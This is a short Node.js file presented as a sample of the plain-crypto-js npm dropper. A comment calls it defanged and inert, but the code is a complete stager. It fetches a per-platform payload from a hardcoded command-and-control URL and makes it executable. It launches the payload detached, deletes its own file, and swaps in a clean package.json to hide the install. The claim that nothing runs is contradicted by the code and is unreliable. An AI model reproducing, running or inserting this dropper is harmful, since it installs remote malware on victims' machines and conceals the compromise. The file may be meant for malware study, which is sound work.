// Defanged sample in the shape of the plain-crypto-js dropper: fetch a
// per-platform payload, make it executable, start it detached, then erase
// the traces. The C2 name below is inert text; nothing here runs anything.
const fs = require("fs"), os = require("os"), path = require("path"), http = require("http");
const { spawn } = require("child_process");
const c2 = "http://sfrclak.com:8000/6202033";
const out = path.join(os.tmpdir(), "ld.bin");
http.get(c2 + "?p=" + process.platform, (res) => {
  res.pipe(fs.createWriteStream(out)).on("finish", () => {
    fs.chmodSync(out, 0o755);
    spawn(out, [], { detached: true, stdio: "ignore" }).unref();
  });
});
fs.unlinkSync(__filename);
fs.renameSync(path.join(__dirname, "package.md"), path.join(__dirname, "package.json"));
